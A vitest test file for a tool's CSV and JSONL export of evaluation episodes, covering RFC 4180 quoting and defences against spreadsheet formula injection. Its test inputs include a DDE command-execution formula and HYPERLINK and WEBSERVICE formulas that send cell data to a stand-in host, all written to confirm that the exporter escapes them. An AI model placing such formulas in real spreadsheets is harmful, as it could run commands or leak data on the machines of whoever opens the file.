/**
 * CSV and JSONL export of a run's episodes: RFC 4180 quoting (commas, quotes, CR/LF) and formula-injection escaping
 * (OWASP) as golden cases, one row per episode read back by a small strict CSV parser, and file names and formats of
 * `exportFile`.
 */
import initSqlJs from 'sql.js';
import { describe, expect, it } from 'vitest';
import { SqlEnv } from '../../src/env/env.ts';
import { buildReport, evaluate } from '../../src/eval/evaluate.ts';
import { summaryOf, type RunSummary } from '../../src/eval/run-store.ts';
import { CSV_COLUMNS, csvField, exportFile, toCsv } from '../../src/eval/export.ts';
import type { EpisodeRecord } from '../../src/eval/transcript.ts';
import { OraclePolicy } from '../../src/policies/oracle.ts';
import { LocalSqlExecutor } from '../../src/sql/executor.ts';
import { buildTinyDataset } from '../fixtures/tiny-dataset.ts';

/** Parses RFC 4180 CSV (CRLF line ends, quoted fields with doubled quotes); throws on anything malformed. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  while (i < text.length) {
    let field = '';
    if (text[i] === '"') {
      i++;
      for (;;) {
        if (i >= text.length) throw new Error('unterminated quoted field');
        if (text[i] === '"') {
          if (text[i + 1] === '"') {
            field += '"';
            i += 2;
          } else {
            i++;
            break;
          }
        } else field += text[i++];
      }
    } else {
      while (i < text.length && text[i] !== ',' && text[i] !== '\r') {
        if (text[i] === '"' || text[i] === '\n') throw new Error(`bare ${JSON.stringify(text[i])} in an unquoted field at ${i}`);
        field += text[i++];
      }
    }
    row.push(field);
    if (text[i] === ',') i++;
    else if (text.startsWith('\r\n', i)) {
      rows.push(row);
      row = [];
      i += 2;
    } else throw new Error(`expected ',' or CRLF at ${i}`);
  }
  if (row.length > 0) throw new Error('last line has no CRLF');
  return rows;
}

function record(overrides: Partial<EpisodeRecord> = {}): EpisodeRecord {
  return {
    policy: 'oracle',
    dataset: 'demo',
    questionId: 'q-1',
    dbId: 'library',
    question: 'How many books?',
    difficulty: 'easy',
    split: 'eval',
    seed: 7,
    success: true,
    episodeReturn: 1.25,
    components: { correctness: 1, progress: 1, operational: 0.04 },
    steps: 3,
    terminated: true,
    truncated: false,
    transcript: [],
    ...overrides,
  };
}

describe('csvField', () => {
  it.each([
    ['plain', 'plain'],
    ['', ''],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['"', '""""'],
    ['line 1\nline 2', '"line 1\nline 2"'],
    ['cr\rhere', '"cr\rhere"'],
    ['crlf\r\n', '"crlf\r\n"'],
    ["it's; fine", "it's; fine"],
    [' padded ', ' padded '],
  ])('%j → %j', (input, expected) => {
    expect(csvField(input)).toBe(expected);
  });

  it('writes numbers and booleans plainly', () => {
    expect(csvField(-0.05)).toBe('-0.05');
    expect(csvField(1)).toBe('1');
    expect(csvField(true)).toBe('true');
    expect(csvField(false)).toBe('false');
  });
});

describe('csvField against formula injection (OWASP CSV Injection)', () => {
  it.each([
    ['=1+1', `"'=1+1"`],
    ['=HYPERLINK("http://x.test/?"&A1, "click")', `"'=HYPERLINK(""http://x.test/?""&A1, ""click"")"`],
    ["=cmd|' /C calc'!A0", `"'=cmd|' /C calc'!A0"`],
    ['+SUM(A1:A2)', `"'+SUM(A1:A2)"`],
    ['-2+3', `"'-2+3"`],
    ['@SUM(A1)', `"'@SUM(A1)"`],
    ['\t=1', `"'\t=1"`],
    ['\r=1', `"'\r=1"`],
    ['-', `"'-"`],
    ['-Infinity', `"'-Infinity"`],
    ['QUERY SELECT 1\n=1+1', '"QUERY SELECT 1\n=1+1"'], // only the first character of a cell makes a formula
    ['a=b', 'a=b'],
    [" '=1", " '=1"],
  ])('%j → %j', (input, expected) => {
    expect(csvField(input)).toBe(expected);
  });

  it.each([['-3'], ['+3'], ['-0.05'], ['-.5'], ['1e-7'], ['-1.5E+3']])('leaves the plain number %j alone', (text) => {
    expect(csvField(text)).toBe(text);
    expect(csvField(Number(text))).toBe(String(Number(text)));
  });

  it('escapes a negative infinity written as a number', () => {
    expect(csvField(-Infinity)).toBe(`"'-Infinity"`);
  });

  it('reads back as the value behind one quote in the fields of a real row', () => {
    const rows = parseCsv(toCsv([record({ policy: '=WEBSERVICE("http://x.test")', question: '@risk', episodeReturn: -0.5 })]));
    const at = (header: string) => rows[1][rows[0].indexOf(header)];
    expect(at('policy')).toBe(`'=WEBSERVICE("http://x.test")`);
    expect(at('question')).toBe(`'@risk`);
    expect(at('return')).toBe('-0.5');
  });
});

describe('toCsv', () => {
  it('writes a header and one row per episode, every field read back exactly', () => {
    const tricky = 'Which author wrote "Dune", and when?\nAnswer in one line.';
    const records = [
      record(),
      record({ questionId: 'q-2', question: tricky, success: false, episodeReturn: -0.07, components: { correctness: 0, progress: 0.25, operational: -0.12 }, steps: 10, terminated: false, truncated: true }),
    ];
    const zero = { correctness: 0, progress: 0, operational: 0 };
    const sql = "SELECT a, b FROM t WHERE x = 'y, \"z\"'";
    records[1].transcript = [
      { action: { type: 'QUERY', sql }, actionText: `QUERY ${sql}`, observation: '', reward: 0, components: zero, outcome: 'ok', episodeReturn: 0 },
      { action: { type: 'ANSWER', value: '1' }, actionText: 'ANSWER 1', observation: '', reward: 0, components: zero, outcome: 'ok', episodeReturn: 0 },
    ];
    const rows = parseCsv(toCsv(records));
    expect(rows).toHaveLength(3);
    expect(rows[0]).toEqual(CSV_COLUMNS.map((c) => c.header));
    const at = (row: number, header: string) => rows[row][rows[0].indexOf(header)];
    expect(rows.every((r) => r.length === CSV_COLUMNS.length)).toBe(true);
    expect(at(1, 'episode')).toBe('1');
    expect(at(2, 'episode')).toBe('2');
    expect(at(2, 'question')).toBe(tricky);
    expect(at(2, 'success')).toBe('false');
    expect(at(2, 'truncated')).toBe('true');
    expect(Number(at(2, 'return'))).toBe(-0.07);
    expect(Number(at(2, 'operational'))).toBe(-0.12);
    expect(at(2, 'actions')).toBe("QUERY SELECT a, b FROM t WHERE x = 'y, \"z\"'\nANSWER 1");
    expect(at(1, 'actions')).toBe('');
  });

  it('is a header line alone for no episodes', () => {
    expect(toCsv([])).toBe(`${CSV_COLUMNS.map((c) => c.header).join(',')}\r\n`);
  });

  it('has one row per episode of a real evaluation, in order', async () => {
    const executor = new LocalSqlExecutor(await initSqlJs());
    try {
      const env = new SqlEnv(await buildTinyDataset(), executor);
      const report = await evaluate(env, new OraclePolicy(), { episodes: 7, seed: 3, split: 'all' });
      const rows = parseCsv(toCsv(report.records));
      expect(rows).toHaveLength(1 + 7);
      expect(rows.slice(1).map((r) => r[rows[0].indexOf('question_id')])).toEqual(report.records.map((r) => r.questionId));
      expect(rows.slice(1).map((r) => r[rows[0].indexOf('success')])).toEqual(Array(7).fill('true'));
      expect(rows.slice(1).map((r) => Number(r[rows[0].indexOf('steps')]))).toEqual(report.records.map((r) => r.steps));
    } finally {
      await executor.close();
    }
  });
});

describe('exportFile', () => {
  const records2 = [record(), record({ questionId: 'q-2' })];
  const run: RunSummary = { ...summaryOf(buildReport('oracle', 'my data/set', { split: 'eval', seed: 0 }, records2), 'run-1', Date.UTC(2025, 0, 2, 3, 4, 5), 10) };

  it('names files after the run and gives JSONL (the run file) a header line, then one line per episode', () => {
    const jsonl = exportFile('jsonl', run, records2);
    expect(jsonl.name).toBe('sqlenv-oracle-my-data-set-eval-20250102-030405.jsonl');
    expect(jsonl.mimeType).toBe('application/x-ndjson');
    const lines = jsonl.text.trimEnd().split('\n');
    expect(lines).toHaveLength(3);
    expect(JSON.parse(lines[0])).toMatchObject({ format: 'sqlenv-run', id: 'run-1', policy: 'oracle', episodes: 2 });
    expect((JSON.parse(lines[2]) as EpisodeRecord).questionId).toBe('q-2');
  });

  it('gives CSV with a .csv name', () => {
    const csv = exportFile('csv', run, [record()]);
    expect(csv.name).toBe('sqlenv-oracle-my-data-set-eval-20250102-030405.csv');
    expect(csv.mimeType).toBe('text/csv');
    expect(parseCsv(csv.text)).toHaveLength(2);
  });
});
